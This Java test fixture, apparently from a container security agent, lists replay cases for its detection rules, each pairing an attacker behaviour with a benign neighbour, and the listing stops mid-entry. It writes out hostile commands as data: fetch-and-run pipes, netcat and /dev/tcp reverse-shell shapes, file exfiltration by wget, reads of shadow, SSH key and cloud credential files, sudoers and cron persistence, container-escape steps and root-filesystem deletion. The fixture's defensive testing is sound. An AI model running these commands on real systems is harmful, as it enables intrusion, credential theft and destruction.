package dev.vigil.agent;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

/**
 * The replays of the default detection rules (issue #6), on process events and on the syscalls
 * sensor's file, network and privilege records: for each,
 * a behaviour performed for real and a benign neighbour that must not raise that rule.
 * {@link RuleReplayTest} runs them against a real agent, {@link RuleReplayCoverageTest} lists
 * which default rules they cover in docs/rules-replays.md.
 *
 * <p>Where a side runs:
 * <ul>
 * <li>{@link Where#MAIN}: a shell snippet in an ordinary busybox container, run from the
 * container's script shell in a subshell whose working directory names the case (that is how an
 * alert is tied to its case: every process the snippet starts inherits the directory);</li>
 * <li>{@link Where#PRIV}: the same in a {@code --privileged} container;</li>
 * <li>{@link Where#HOSTPID}: the same in a container that shares the host's pid namespace
 * ({@code --pid host}, with {@code CAP_SYS_PTRACE}), where {@code {HOSTPID}} in a snippet or an
 * output fragment is a host process the test started;</li>
 * <li>{@link Where#DISK}: the same in a container given a loop device the test made, as
 * {@code /dev/sdz} ({@code --device}), under a policy that lets it open block devices (alert instead
 * of the default block);</li>
 * <li>{@link Where#HOST}: a command on the host, started by the test in its own directory.</li>
 * </ul>
 *
 * <p>What a replay proves: the busybox image has only busybox applets. Tools it lacks run as
 * stand-ins: a copy of busybox installed as {@code /usr/local/bin/NAME} and started with
 * {@code exec -a true}, so the kernel execs a file called NAME with the attacker's arguments and
 * busybox runs its harmless {@code true} applet. Such a replay proves the rule fires on a real
 * exec of that name and command line, not that the real tool would be caught doing its work
 * (which the rule does not look at). On the host the stand-ins are copies of {@code /bin/true}
 * in the test's temp dir. Real applets (nc, wget, tar, shred, uname, ...) run for real, with
 * arguments that do nothing harmful: connections go to a closed port of the container's own
 * loopback (the containers have no network), files are the container's own.
 */
final class RuleReplayCases {
    private RuleReplayCases() {}

    enum Where { MAIN, PRIV, HOSTPID, DISK, HOST }

    /**
     * One side of a case: a shell snippet in a container, or argv on the host. A host argv whose
     * first word has no slash and is not {@code podman} names a stand-in; {@code @memfd} runs a
     * copy of /bin/true from an anonymous memory file.
     */
    record Side(Where where, String snippet, List<String> argv) {
        static Side main(String snippet) { return new Side(Where.MAIN, snippet, null); }
        static Side priv(String snippet) { return new Side(Where.PRIV, snippet, null); }
        static Side host(String... argv) { return new Side(Where.HOST, null, List.of(argv)); }
        /**
         * The snippet run by a shell exec'd in the case's directory. busybox's sh runs many applets
         * (cp, rm, chmod, ln, touch, nc, ...) in a fork of itself without an exec; the case's own
         * subshell is such a fork of the script shell, so without an exec of its own the agent
         * knows those processes by the script shell's working directory (/) and command line.
         */
        static Side mainSh(String snippet) { return main("sh -c " + quote(snippet)); }
        static Side privSh(String snippet) { return priv("sh -c " + quote(snippet)); }
        static Side hostPidSh(String snippet) { return new Side(Where.HOSTPID, "sh -c " + quote(snippet), null); }
        static Side diskSh(String snippet) { return new Side(Where.DISK, "sh -c " + quote(snippet), null); }
    }

    /**
     * @param rule    the default rule's name
     * @param what    the behaviour, for the test name
     * @param output  fragments the alert's formatted output must contain (the command line as the rule prints it)
     */
    record Case(String rule, String what, Side attack, Side benign, List<String> output) {
        String testName() { return rule + ": " + what; }
    }

    /** Where the containers see the static helper (src/test/c/replay-helper.c) for bpf and unix-socket connects. */
    static final String HELPER = "/vigil-helper/replay-helper";

    /** Stand-ins installed in the container images' /usr/local/bin (copies of busybox). */
    static final List<String> CONTAINER_STANDINS = List.of("nginx", "python3", "useradd", "setcap", "getcap",
            "iptables", "gcc", "pip", "john", "nmap", "kubectl", "ssh", "scp", "mysqldump", "mysql", "aws", "iodine", "dig", "socat",
            "chisel", "openssl", "tor", "curl", "xmrig", "stress-ng", "app", "shutdown", "pkexec", "apt", "tool");

    /** Host stand-ins (copies of /bin/true in the test's bin directory). */
    static final List<String> HOST_STANDINS = List.of("pkexec", "systemctl", "setenforce", "getenforce", "auditctl", "nc", "crontab", "su",
            "kubectl", "ssh", "socat", "true-copy");

    private static Case c(String rule, String what, Side attack, Side benign, String... output) {
        return new Case(rule, what, attack, benign, List.of(output));
    }

    /** A python3 listener on 127.0.0.1:40404 that takes one connection, started in the background by the host case's bash. */
    private static final String LOOPBACK_LISTENER = "/usr/bin/python3 -c \"import socket; s = socket.socket(); "
            + "s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', 40404)); s.listen(); s.settimeout(10); s.accept()[0].close()\" & sleep 0.5; ";

    /** python3 forks a sleeping child, attaches to it (PTRACE_ATTACH), then kills it. */
    private static final String PTRACE_ATTACH = "import ctypes, os, signal, time\n"
            + "libc = ctypes.CDLL(None, use_errno=True)\n"
            + "pid = os.fork()\n"
            + "if pid == 0:\n    time.sleep(30); os._exit(0)\n"
            + "rc = libc.ptrace(16, pid, None, None)\n"  // PTRACE_ATTACH
            + "os.kill(pid, signal.SIGKILL); os.waitpid(pid, 0)\n"
            + "raise SystemExit(0 if rc == 0 else 1)\n";

    /** The same child asks to be traced (PTRACE_TRACEME), not an injection request, and exits. */
    private static final String PTRACE_TRACEME = "import ctypes, os\n"
            + "libc = ctypes.CDLL(None, use_errno=True)\n"
            + "pid = os.fork()\n"
            + "if pid == 0:\n    libc.ptrace(0, 0, None, None); os._exit(0)\n"
            + "os.waitpid(pid, 0)\n";

    static final List<Case> CASES = List.of(
            // ---------------- initial access
            c("Shell Spawned by Web Server", "a process named nginx starts /bin/sh",
                    Side.main("exec -a sh /usr/local/bin/nginx -c '/bin/sh -c true; exit 0'"),
                    Side.main("exec -a sh /usr/local/bin/nginx -c '/bin/true; exit 0'"),
                    "sh -c true", "nginx"),
            c("Privilege Escalation Exploit Tool pkexec", "pkexec in a container",
                    Side.main("fake pkexec --user root /bin/true"),
                    Side.host("pkexec", "--version"),
                    "pkexec --user root /bin/true"),
            c("Privilege Escalation Exploit Tool pkexec", "pkexec with an empty argument list on the host (PwnKit's shape)",
                    Side.host("pkexec"),
                    Side.host("pkexec", "--version"),
                    "pkexec executed (cmdline=pkexec "),
            // ---------------- execution
            c("Shell Spawned in Container", "xargs starts a shell",
                    Side.main("echo x | /usr/bin/xargs /bin/sh -c true"),
                    Side.main("/bin/sh -c true"),
                    "sh -c true x", "parent=xargs"),
            c("Interpreter One-Liner in Container", "python3 -c",
                    Side.main("fake python3 -c 'print(1)'"),
                    Side.main("fake python3 --version"),
                    "python3 -c print(1)"),
            c("Remote Script Piped to Shell", "wget ... | sh",
                    Side.main("/bin/sh -c 'wget -q -O- http://127.0.0.1:9/vigil.sh | sh'"),
                    Side.main("/bin/sh -c 'wget -q -O /dev/null http://127.0.0.1:9/index.html'"),
                    "sh -c wget -q -O- http://127.0.0.1:9/vigil.sh | sh"),
            c("Container Exec Command Run", "podman exec on the host",
                    Side.host("podman", "--runtime", "runc", "exec", "{MAIN}", "/bin/true"),
                    Side.host("podman", "--runtime", "runc", "inspect", "--format", "{{.Id}}", "{MAIN}"),
                    "podman --runtime runc exec "),
            c("Privileged Container Launched From Command Line", "podman run --privileged on the host",
                    Side.host("podman", "--runtime", "runc", "run", "--rm", "--privileged", "--network", "none", "{IMAGE}", "/bin/true"),
                    Side.host("podman", "--runtime", "runc", "run", "--rm", "--network", "none", "{IMAGE}", "/bin/true"),
                    "podman --runtime runc run --rm --privileged"),
            c("Netcat With Command Execution", "nc -e to a closed loopback port",
                    Side.main("/usr/bin/nc -w 1 127.0.0.1 9 -e /bin/true"),
                    Side.main("/usr/bin/nc -w 1 127.0.0.1 9"),
                    "nc -w 1 127.0.0.1 9 -e /bin/true"),
            // The applet named by busybox's first argument rather than by argv[0]: how busybox images run tools they have no link for.
            c("Netcat With Command Execution", "busybox nc -e (the applet as busybox's argument)",
                    Side.main("/bin/busybox nc -w 1 127.0.0.1 9 -e /bin/true"),
                    Side.main("/bin/busybox nc -w 1 127.0.0.1 9"),
                    "nc -w 1 127.0.0.1 9 -e /bin/true"),
            c("Bash Network Redirection Reverse Shell", "a shell opening /dev/tcp/...",
                    Side.main("/bin/sh -c 'exec 3<>/dev/tcp/127.0.0.1/9'"),
                    Side.main("/bin/sh -c 'exec 3</dev/null'"),
                    "sh -c exec 3<>/dev/tcp/127.0.0.1/9"),
            // ---------------- persistence
            c("Crontab Edited in Container", "crontab -l",
                    Side.main("/usr/bin/crontab -l"),
                    Side.host("crontab", "-l"),
                    "crontab -l"),
            c("Local Account Created or Changed", "useradd from a shell",
                    Side.main("fake useradd -m vigil-replay"),
                    // A package's maintainer script adding its system user is what the exception is for.
                    Side.main("exec -a sh /usr/local/bin/apt -c '(exec -a true /usr/local/bin/useradd --system vigil-replay); exit 0'"),
                    "useradd -m vigil-replay"),
            // ---------------- privilege escalation
            c("LD_PRELOAD Used on Command Line", "LD_PRELOAD of a /tmp library",
                    Side.main("/bin/sh -c 'LD_PRELOAD=/tmp/vigil.so /bin/true'"),
                    Side.main("/bin/sh -c 'LD_BIND_NOW=1 /bin/true'"),
                    "sh -c LD_PRELOAD=/tmp/vigil.so /bin/true"),
            c("Sudo or Su in Container", "su root -c true",
                    Side.main("/bin/su root -c /bin/true"),
                    Side.host("su", "root", "-c", "/bin/true"),
                    "su root -c /bin/true"),
            c("File Capabilities Set", "setcap cap_setuid on a binary",
                    Side.main("fake setcap cap_setuid+ep /tmp/vigil-replay-bin"),
                    Side.main("fake getcap /tmp/vigil-replay-bin"),
                    "setcap cap_setuid+ep /tmp/vigil-replay-bin"),
            c("Nsenter Executed", "nsenter (joining no namespace)",
                    Side.main("/usr/bin/nsenter /bin/true"),
                    Side.main("/bin/ls /proc/self/ns"),
                    "nsenter /bin/true"),
            c("Mount Command in Container", "mount (listing)",
                    Side.main("/bin/mount"),
                    Side.main("/bin/cat /proc/mounts"),
                    "cmdline=mount "),
            c("Chroot in Container", "chroot / true",
                    Side.main("/usr/sbin/chroot / /bin/true"),
                    Side.main("/usr/bin/env /bin/true"),
                    "chroot / /bin/true"),
            c("Shell in Privileged Container", "a shell in a --privileged container",
                    Side.priv("/bin/sh -c true"),
                    Side.main("/bin/sh -c true"),
                    "sh -c true"),
            c("Module Tool Run in Container", "rmmod of a module that does not exist",
                    Side.main("/sbin/rmmod vigil_replay_none"),
                    Side.main("/sbin/modinfo vigil_replay_none"),
                    "rmmod vigil_replay_none"),
            // ---------------- defense evasion
            c("Execution From Temporary Directory", "a binary dropped in /tmp",
                    Side.main("exec -a true /tmp/dropper --vigil-replay"),
                    Side.main("exec -a true /usr/local/bin/tool --vigil-replay"),
                    "exe=/tmp/dropper", "dropper --vigil-replay"),
            c("Execution From Hidden Directory", "a binary in /opt/.hidden",
                    Side.main("exec -a true /opt/.hidden/tool --vigil-replay"),
                    Side.main("exec -a true /root/.cache/tool --vigil-replay"),
                    "exe=/opt/.hidden/tool", "tool --vigil-replay"),
            c("Fileless Execution via Memfd", "a copy of true run from a memfd on the host",
                    Side.host("@memfd", "--vigil-replay"),
                    Side.host("true-copy", "--vigil-replay"),
                    "exe=/memfd:vigil-replay", "--vigil-replay"),
            // The dropper's trick: open the binary, unlink it, execute it through its descriptor.
            c("Deleted Binary Executed", "a binary unlinked before it runs through /proc/self/fd",
                    Side.main("cp /bin/busybox /tmp/gone && exec 3</tmp/gone && rm /tmp/gone && exec -a true /proc/self/fd/3 --vigil-replay"),
                    Side.main("cp /bin/busybox /tmp/kept && exec 3</tmp/kept && exec -a true /proc/self/fd/3 --vigil-replay"),
                    "exe=/tmp/gone (deleted)", "cmdline=gone --vigil-replay"),
            c("Shell History Disabled", "HISTFILE=/dev/null",
                    Side.main("/bin/sh -c 'export HISTFILE=/dev/null; true'"),
                    Side.main("/bin/sh -c 'export HISTFILE=/root/.ash_history; true'"),
                    "sh -c export HISTFILE=/dev/null; true"),
            c("File Timestamps Altered", "touch -r",
                    Side.main("/bin/touch -r /etc/passwd /tmp/vigil-ts"),
                    Side.main("/bin/touch /tmp/vigil-ts2"),
                    "touch -r /etc/passwd /tmp/vigil-ts"),
            c("Mandatory Access Control Disabled", "setenforce 0 on the host",
                    Side.host("setenforce", "0"),
                    Side.host("getenforce"),
                    "setenforce 0"),
            c("Firewall Rules Flushed", "iptables -F",
                    Side.main("fake iptables -F"),
                    Side.main("fake iptables -L -n"),
                    "iptables -F"),
            c("Audit System Disabled", "auditctl -D on the host",
                    Side.host("auditctl", "-D"),
                    Side.host("auditctl", "-l"),
                    "auditctl -D"),
            c("Process Name Masquerading as Kernel Thread", "argv[0] [kworker/0:1]",
                    Side.main("exec -a '[kworker/0:1]' /usr/local/bin/app"),
                    Side.main("/bin/true '[kworker/0:1]'"),
                    "argv0=[kworker/0:1]"),
            c("Payload Decoded in Container", "base64 -d",
                    Side.main("/bin/base64 -d /tmp/payload.b64"),
                    Side.main("/bin/base64 /etc/hostname"),
                    "base64 -d /tmp/payload.b64"),
            c("Compiler Run in Container", "gcc from a shell",
                    Side.main("fake gcc -o /tmp/implant /tmp/implant.c"),
                    // pip building a wheel runs the compiler: the package-manager exception.
                    Side.main("exec -a sh /usr/local/bin/pip -c '(exec -a true /usr/local/bin/gcc -c ext.c); exit 0'"),
                    "gcc -o /tmp/implant /tmp/implant.c"),
            // ---------------- credential access
            c("Credential Search in Files", "grep -r password /etc",
                    Side.main("/bin/grep -r password /etc"),
                    Side.main("/bin/grep -r root /etc"),
                    "grep -r password /etc"),
            c("Password Cracking or Brute Force Tool", "john with a wordlist",
                    Side.main("fake john --wordlist=/dev/null /tmp/hashes"),
                    Side.main("/usr/bin/md5sum /etc/passwd"),
                    "john --wordlist=/dev/null /tmp/hashes"),
            // ---------------- discovery
            c("Network Scanner Run", "nmap of loopback",
                    Side.main("fake nmap -sT -p 1-10 127.0.0.1"),
                    Side.main("/bin/ping -c 1 -W 1 127.0.0.1"),
                    "nmap -sT -p 1-10 127.0.0.1"),
            c("Container Environment Reconnaissance", "kubectl in a container",
                    Side.main("fake kubectl get pods -A"),
                    Side.host("kubectl", "get", "pods", "-A"),
                    "kubectl get pods -A"),
            c("Privilege Escalation Enumeration Script", "sh linpeas.sh",
                    Side.main("/bin/sh /tmp/linpeas.sh"),
                    Side.main("/bin/sh /tmp/healthcheck.sh"),
                    "sh /tmp/linpeas.sh"),
            c("System Information Discovery in Container", "uname -a from a shell",
                    Side.main("/bin/uname -a"),
                    Side.main("/bin/date"),
                    "uname -a"),
            c("Account Discovery in Container", "id from a shell",
                    Side.main("/usr/bin/id"),
                    Side.main("/usr/bin/nproc"),
                    "cmdline=id "),
            c("Network Configuration Discovery in Container", "ifconfig -a from a shell",
                    Side.main("/sbin/ifconfig -a"),
                    Side.main("/bin/hostname"),
                    "ifconfig -a"),
            c("Process Discovery in Container", "ps from a shell",
                    Side.main("/bin/ps"),
                    Side.main("/usr/bin/uptime"),
                    "cmdline=ps "),
            // ---------------- lateral movement
            c("SSH Client in Container", "ssh in a container",
                    Side.main("fake ssh -V"),
                    Side.host("ssh", "-V"),
                    "ssh -V"),
            c("Remote Copy Tool to Another Host", "scp to user@host",
                    Side.main("fake scp /etc/hostname backup@10.0.0.2:/tmp/"),
                    Side.main("fake scp /etc/hostname /tmp/hostname.copy"),
                    "scp /etc/hostname backup@10.0.0.2:/tmp/"),
            // ---------------- collection
            c("Sensitive Directory Archived", "tar of /etc",
                    Side.main("/bin/tar -cf /tmp/etc.tar /etc"),
                    Side.main("/bin/tar -cf /tmp/var.tar /var"),
                    "tar -cf /tmp/etc.tar /etc"),
            c("Database Dump in Container", "mysqldump from a shell",
                    Side.main("fake mysqldump --all-databases"),
                    Side.main("fake mysql --version"),
                    "mysqldump --all-databases"),
            // ---------------- exfiltration
            c("Data Uploaded With Command-Line HTTP Client", "wget --post-file",
                    Side.main("/usr/bin/wget -q --post-file=/etc/hostname http://127.0.0.1:9/"),
                    Side.main("/usr/bin/wget -q -O /dev/null http://127.0.0.1:9/"),
                    "wget -q --post-file=/etc/hostname http://127.0.0.1:9/"),
            c("Cloud Storage Copy From Container", "aws s3 cp",
                    Side.main("fake aws s3 cp /etc/hostname s3://vigil-replay/"),
                    Side.main("fake aws s3 ls"),
                    "aws s3 cp /etc/hostname s3://vigil-replay/"),
            c("DNS Tunnel Tool", "iodine",
                    Side.main("fake iodine -f 10.0.0.1 t.example.com"),
                    Side.main("fake dig example.com"),
                    "iodine -f 10.0.0.1 t.example.com"),
            // ---------------- command and control
            c("Netcat or Socat in Container", "socat in a container",
                    Side.main("fake socat -V"),
                    Side.host("socat", "-V"),
                    "socat -V"),
            c("Tunneling Tool Run", "chisel client",
                    Side.main("fake chisel client 10.0.0.1:8080 R:socks"),
                    Side.main("fake openssl version"),
                    "chisel client 10.0.0.1:8080 R:socks"),
            c("SSH Port Forwarding", "ssh -L",
                    Side.main("fake ssh -N -L 8080:127.0.0.1:80 user@10.0.0.2"),
                    Side.main("fake ssh user@10.0.0.2 uptime"),
                    "ssh -N -L 8080:127.0.0.1:80 user@10.0.0.2"),
            c("Anonymizing Proxy Tool", "tor",
                    Side.main("fake tor --version"),
                    Side.main("fake curl --version"),
                    "tor --version"),
            c("Download Tool Run in Container", "wget of a URL",
                    Side.main("/usr/bin/wget -q -O /tmp/tool http://127.0.0.1:9/tool"),
                    Side.main("/usr/bin/wget --help"),
                    "wget -q -O /tmp/tool http://127.0.0.1:9/tool"),
            c("Package Manager Run in Container", "dpkg -l from a shell",
                    Side.main("/usr/bin/dpkg -l"),
                    // dpkg run by apt is the exception; apt itself starts outside the case's directory.
                    Side.main("cd / && exec -a sh /usr/local/bin/apt -c 'cd $CASE_DIR && /usr/bin/dpkg -l; exit 0'"),
                    "dpkg -l"),
            // ---------------- impact
            c("Crypto Miner Executed", "xmrig",
                    Side.main("fake xmrig --donate-level 1 -o pool.example.com:3333"),
                    Side.main("fake stress-ng --cpu 1 --timeout 1"),
                    "xmrig --donate-level 1 -o pool.example.com:3333"),
            c("Mining Pool Address on Command Line", "stratum+tcp:// URL",
                    Side.main("fake app --url stratum+tcp://pool.example.com:3333"),
                    Side.main("fake app --url https://pool.example.com"),
                    "app --url stratum+tcp://pool.example.com:3333"),
            // The target is a scratch directory of the container's own; the rule keys on the option.
            c("Destructive Deletion of Root Filesystem", "rm -rf --no-preserve-root (of a scratch dir)",
                    Side.main("/bin/rm -rf --no-preserve-root /tmp/vigil-scratch"),
                    Side.main("/bin/rm -rf /tmp/vigil-scratch"),
                    "rm -rf --no-preserve-root /tmp/vigil-scratch"),
            c("Disk Wipe Tool", "shred of a scratch file",
                    Side.main("/usr/bin/shred -n 1 /tmp/wipe-me"),
                    Side.main("/bin/dd if=/dev/zero of=/tmp/zeros bs=1k count=1"),
                    "shred -n 1 /tmp/wipe-me"),
            c("Security Service Stopped", "systemctl stop auditd on the host",
                    Side.host("systemctl", "stop", "auditd"),
                    Side.host("systemctl", "status", "auditd"),
                    "systemctl stop auditd"),
            // busybox's reboot would signal the container's pid 1: a stand-in named shutdown instead.
            c("System Shutdown From Container", "shutdown -h now",
                    Side.main("fake shutdown -h now"),
                    Side.main("/usr/bin/uptime"),
                    "shutdown -h now"),
            c("Files Encrypted With OpenSSL or GPG in Container", "openssl enc",
                    Side.main("fake openssl enc -aes-256-cbc -in /etc/hostname -out /tmp/hostname.enc -k x"),
                    Side.main("fake openssl version"),
                    "openssl enc -aes-256-cbc -in /etc/hostname -out /tmp/hostname.enc -k x"),

            // ================ file, network and privilege syscall records (the syscalls sensor)
            // Each attack is a freshly exec'd program (sh -c, cat, nc, ...) so the record's process
            // has the case directory as its working directory; the files are the container's own,
            // made by the prelude.
            // ---------------- persistence: writes under /etc and home directories
            c("Cron Job Created or Modified", "a shell writes /etc/cron.d/vigil",
                    Side.mainSh("echo \"* * * * * root true\" > /etc/cron.d/vigil"),
                    Side.mainSh("cat /etc/cron.d/placeholder"),
                    "file=/etc/cron.d/vigil"),
            c("SSH Authorized Keys Modified", "a key appended to /root/.ssh/authorized_keys",
                    Side.mainSh("echo ssh-ed25519 AAAAvigil >> /root/.ssh/authorized_keys"),
                    Side.mainSh("echo host >> /root/.ssh/known_hosts"),
                    "file=/root/.ssh/authorized_keys"),
            c("Systemd Unit Created or Modified", "a .service file under /etc/systemd/system",
                    Side.mainSh("echo [Service] > /etc/systemd/system/vigil.service"),
                    Side.mainSh("echo [Service] > /tmp/vigil.service"),
                    "file=/etc/systemd/system/vigil.service"),
            c("Shell Startup File Modified", "a line appended to /root/.profile",
                    Side.mainSh("echo true >> /root/.profile"),
                    Side.mainSh("cat /root/.profile"),
                    "file=/root/.profile"),
            c("Init Script Modified", "a script written to /etc/init.d",
                    Side.mainSh("echo true > /etc/init.d/vigil"),
                    Side.mainSh("cat /etc/init.d/placeholder"),
                    "file=/etc/init.d/vigil"),
            c("Account Database Written", "a group appended to /etc/group",
                    Side.mainSh("echo vigil:x:4242: >> /etc/group"),
                    Side.mainSh("cat /etc/group"),
                    "file=/etc/group"),
            // The web server is the nginx stand-in running busybox's sh applet: the write is its own.
            c("Web Shell Written by Web Server", "a process named nginx writes a .php file",
                    Side.main("exec -a sh /usr/local/bin/nginx -c 'echo x > /var/www/shell.php'"),
                    Side.main("exec -a sh /usr/local/bin/nginx -c 'echo x > /var/www/index.html'"),
                    "file=/var/www/shell.php", "proc=nginx"),
            c("System Binary Modified", "a program copied into /usr/bin",
                    Side.mainSh("cp /bin/busybox /usr/bin/vigil-tool"),
                    Side.mainSh("cp /bin/busybox /tmp/vigil-tool"),
                    "file=/usr/bin/vigil-tool"),
            // The image is static busybox: nothing in the container uses the dynamic linker.
            c("Dynamic Linker Preload File Modified", "/etc/ld.so.preload written",
                    Side.mainSh("echo /tmp/vigil.so > /etc/ld.so.preload"),
                    Side.mainSh("cat /etc/ld.so.conf"),
                    "file=/etc/ld.so.preload"),
            c("Dynamic Linker Configuration Modified", "a file in /etc/ld.so.conf.d",
                    Side.mainSh("echo /opt/lib > /etc/ld.so.conf.d/vigil.conf"),
                    Side.mainSh("cat /etc/ld.so.conf"),
                    "file=/etc/ld.so.conf.d/vigil.conf"),
            c("Sudoers Modified", "a file in /etc/sudoers.d",
                    Side.mainSh("echo \"vigil ALL=(ALL) NOPASSWD: ALL\" > /etc/sudoers.d/vigil"),
                    Side.mainSh("cat /etc/sudoers"),
                    "file=/etc/sudoers.d/vigil"),
            c("Setuid or Setgid Bit Set", "chmod 4755 on a copy of busybox",
                    Side.mainSh("chmod 4755 /tmp/dropper"),
                    Side.mainSh("chmod 0755 /tmp/vigil-replay-bin"),
                    "file=/tmp/dropper", "S_ISUID"),
            c("Log Files Truncated", "a log file truncated by copying /dev/null over it (O_TRUNC)",
                    Side.mainSh("cp /dev/null /var/log/app.log"),
                    Side.mainSh("cp /dev/null /tmp/app.log"),
                    "file=/var/log/app.log"),
            c("Hidden File Created in Temporary Directory", "a dot file created in /tmp",
                    Side.mainSh("echo x > /tmp/.vigil-hidden"),
                    Side.mainSh("echo x > /tmp/vigil-visible"),
                    "file=/tmp/.vigil-hidden"),
            c("Log Files Deleted", "rm of a log file",
                    Side.mainSh("rm /var/log/old.log"),
                    Side.mainSh("rm /tmp/wipe-me"),
                    "file=/var/log/old.log"),
            c("Shell History Cleared", "the bash history deleted",
                    Side.mainSh("rm /root/.bash_history"),
                    Side.mainSh("rm /tmp/bash-notes"),
                    "/root/.bash_history"),
            c("Shell History Linked to Null Device", "ln -s /dev/null /root/.sh_history",
                    Side.mainSh("ln -s /dev/null /root/.sh_history"),
                    Side.mainSh("ln -s /dev/null /tmp/vigil-null-link"),
                    "link=/root/.sh_history"),
            // ---------------- credential access: files the prelude made
            c("Shadow File Read", "cat /etc/shadow",
                    Side.mainSh("cat /etc/shadow"),
                    Side.mainSh("cat /etc/hostname"),
                    "file=/etc/shadow", "proc=cat"),
            c("SSH Private Key Read", "cat of a private key",
                    Side.mainSh("cat /root/.ssh/id_ed25519"),
                    Side.mainSh("cat /root/.ssh/id_ed25519.pub"),
                    "file=/root/.ssh/id_ed25519"),
            c("Cloud Credentials File Read", "cat ~/.aws/credentials",
                    Side.mainSh("cat /root/.aws/credentials"),
                    Side.mainSh("cat /root/.aws/notes"),
                    "file=/root/.aws/credentials"),
            c("Kubernetes Service Account Token Read by Shell Tool", "cat of the service account token",
                    Side.mainSh("cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
                    Side.mainSh("cat /var/run/secrets/vigil/token"),
                    "file=/var/run/secrets/kubernetes.io/serviceaccount/token"),
            c("Kubeconfig or Cluster Credentials Read", "cat ~/.kube/config",
                    Side.mainSh("cat /root/.kube/config"),
                    Side.mainSh("cat /root/.kube/notes"),
                    "file=/root/.kube/config"),
            // The container's pid 1 is its own sleep.
            c("Process Environment or Memory Read via Procfs", "cat /proc/1/environ",
                    Side.mainSh("cat /proc/1/environ"),
                    Side.mainSh("cat /proc/1/status"),
                    "file=/proc/1/environ"),
            // Opening its own memory for writing; nothing is written.
            c("Process Memory Written via Procfs", "a shell opens its /proc/PID/mem for writing",
                    Side.mainSh("exec 3>>/proc/$$/mem"),
                    Side.mainSh("exec 3</proc/$$/status"),
                    "/mem"),
            // ---------------- privilege escalation and escape (the privileged container: /proc/sys is writable there)
            // An append-mode open with no write: the record is the open, and nothing changes the
            // host's core_pattern even if the escape guard (which refuses the write) were off.
            c("Kernel Core Pattern Modified", "core_pattern opened for writing",
                    Side.privSh("exec 3>>/proc/sys/kernel/core_pattern"),
                    Side.privSh("cat /proc/sys/kernel/core_pattern"),
                    "file=/proc/sys/kernel/core_pattern"),
            // kernel.domainname is per UTS namespace (the container's own); /proc/sys/net is the
            // container's own network namespace, which the rule leaves out.
            c("Kernel Parameters Written From Container", "a /proc/sys/kernel file opened for writing",
                    Side.privSh("exec 3>>/proc/sys/kernel/domainname"),
                    Side.privSh("exec 3>>/proc/sys/net/ipv4/ip_forward"),
                    "file=/proc/sys/kernel/domainname"),
            // The container's own memory cgroup (cgroup v1, visible in a privileged container):
            // notify_on_release is the first step of the release_agent escape. Opened for appending
            // with nothing written; the escape guard kills such an open at the syscall's exit.
            c("Cgroup Release Agent Modified", "the container's cgroup notify_on_release opened for writing",
                    Side.privSh("exec 3>>/sys/fs/cgroup/memory/notify_on_release"),
                    Side.privSh("cat /sys/fs/cgroup/memory/notify_on_release"),
                    "file=/sys/fs/cgroup/memory/notify_on_release"),
            c("Mount Syscall in Container", "mount a tmpfs",
                    Side.mainSh("mount -t tmpfs none /mnt"),
                    Side.mainSh("cat /proc/mounts"),
                    "target=/mnt", "proc=mount"),
            c("Namespace Change in Container", "unshare -u",
                    Side.privSh("unshare -u true"),
                    Side.privSh("uname -n"),
                    "syscall=unshare", "proc=unshare"),
            // In the privileged container: podman's seccomp profile refuses bpf() in an ordinary one before
            // the syscall tracepoints run, so there is no record to see. The escape guard kills bpf() in
            // a container at the syscall's entry; the record is taken there too.
            c("BPF Program Loaded From Container", "bpf(BPF_PROG_LOAD) of a socket filter in the privileged container",
                    Side.privSh(HELPER + " bpf-prog"),
                    Side.privSh(HELPER + " bpf-map"),
                    "proc=replay-helper"),
            // The test's podman API socket, mounted at /run/podman/podman.sock; the benign side connects
            // to the same socket mounted under a name no runtime uses.
            c("Container Runtime Socket Accessed From Container", "connect to /run/podman/podman.sock",
                    Side.mainSh(HELPER + " connect /run/podman/podman.sock"),
                    Side.mainSh(HELPER + " connect /tmp/vigil-api.sock"),
                    "socket=/run/podman/podman.sock", "proc=replay-helper"),
            // A container that shares the host's pid namespace reads a host file through a host process's
            // root link ({HOSTPID}: a sleep the test started on the host; pid 1 on a normal host, but here
            // pid 1 is outside the sandbox). The file lies outside the container's root, so the record
            // carries the path as given. Its own /proc/self/root stays inside its root: fd.name is the
            // resolved /etc/hostname there. The escape guard only alerts on host files by default.
            c("Host Filesystem Reached Through Procfs", "a --pid host container reads the host's /etc/hostname through /proc/PID/root",
                    Side.hostPidSh("cat /proc/{HOSTPID}/root/etc/hostname"),
                    Side.hostPidSh("cat /proc/self/root/etc/hostname"),
                    "file=/proc/{HOSTPID}/root/etc/hostname", "proc=cat"),
            // A loop device on a 1 MiB file of zeros, passed in under a host disk's name; the container's
            // policy sets blockDevice to alert (the default blocks the open), so the open succeeds.
            c("Raw Block Device Opened in Container", "dd reads a loop device passed in as /dev/sdz",
                    Side.diskSh("/bin/dd if=/dev/sdz of=/dev/null bs=512 count=1"),
                    Side.diskSh("/bin/dd if=/dev/zero of=/dev/null bs=512 count=1"),
                    "device=/dev/sdz", "proc=dd"),
            // ---------------- network: connects to listeners on the container's own loopback
            c("Connection to Mining Pool Port", "nc to a listener on 127.0.0.1:3333",
                    Side.mainSh("nc -l -p 3333 >/dev/null & sleep 0.3; echo hi | nc -w 1 127.0.0.1 3333; wait"),
                    Side.mainSh("nc -l -p 3330 >/dev/null & sleep 0.3; echo hi | nc -w 1 127.0.0.1 3330; wait"),
                    "->127.0.0.1:3333", "proc=nc"),
            c("Outbound SSH Connection From Container", "nc to a listener on 127.0.0.1:22",
                    Side.mainSh("nc -l -p 22 >/dev/null & sleep 0.3; echo hi | nc -w 1 127.0.0.1 22; wait"),
                    Side.mainSh("nc -l -p 2222 >/dev/null & sleep 0.3; echo hi | nc -w 1 127.0.0.1 2222; wait"),
                    "->127.0.0.1:22 "),
            // busybox's sh has no sockets; on the host, bash's /dev/tcp connects to a listener python3 holds on loopback.
            c("Shell Opened Outbound Connection", "bash opens /dev/tcp/127.0.0.1/PORT on the host",
                    Side.host("/bin/bash", "-c", LOOPBACK_LISTENER + "exec 3<>/dev/tcp/127.0.0.1/40404; echo hi >&3; exec 3>&-; wait"),
                    Side.host("/bin/bash", "-c", LOOPBACK_LISTENER + "/usr/bin/python3 -c \"import socket; socket.create_connection(('127.0.0.1', 40404)).close()\"; wait"),
                    "->127.0.0.1:40404", "proc=bash"),
            // The metadata address put on the privileged container's own loopback (--network none:
